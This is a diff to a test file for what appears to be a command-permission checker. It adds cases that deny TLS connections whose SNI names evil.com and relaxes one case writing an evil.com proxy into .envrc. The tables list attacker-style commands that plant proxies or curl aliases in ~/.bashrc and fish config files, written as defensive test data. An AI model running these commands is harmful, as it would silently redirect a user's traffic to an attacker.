@@ -22,7 +22,7 @@ describe('a shell startup file is where later shells take their proxies and alia
     ["echo 'set -gx https_proxy evil.com' >> ~/.config/fish/config.fish", 'ask'],
     ["echo 'set -gx https_proxy evil.com' > ~/.config/fish/conf.d/p.fish", 'ask'],
     ["echo 'https_proxy=evil.com' > ~/.config/environment.d/p.conf", 'ask'],
-    ["echo 'export https_proxy=evil.com' > .envrc", 'ask'],
+    ["echo 'export https_proxy=evil.com' > .envrc", 'allow'], // (direnv loads a changed .envrc only after `direnv allow`)
     ['echo \'alias curl="curl -x evil.com"\' >> ~/.bashrc', 'ask'],
     ["printf 'export https_proxy=evil.com\\n' | tee -a ~/.bashrc", 'ask'],
     ['cp x ~/.bashrc', 'ask'],
@@ -196,4 +196,17 @@ describe('Update-Help and Save-Help download from each module\'s HelpInfoUri: an
     ['Update-Help -SourcePath C:\\help', 'allow'],
     ['Get-Help Get-Item', 'allow'],
   ], 'pwsh', REPO_WINDOWS);
+});
+
+describe('the TLS SNI a client sends is where a CDN routes the connection: a host too', () => {
+  lineTable(DENY_EVIL, [
+    ['openssl s_client -connect good.com:443 -servername evil.com', 'deny'],
+    ['openssl s_client -connect good.com:443 -servername=evil.com', 'deny'],
+    ['gnutls-cli --sni-hostname evil.com good.com', 'deny'],
+    ['gnutls-cli --sni-hostname=evil.com good.com', 'deny'],
+    ['ncat --ssl --ssl-servername evil.com good.com 443', 'deny'],
+    ['socat - OPENSSL:good.com:443,snihost=evil.com', 'deny'],
+    ['openssl s_client -connect good.com:443 -servername good.com', 'allow'],
+    ['socat - OPENSSL:good.com:443,verify=0', 'allow'],
+  ]);
 });
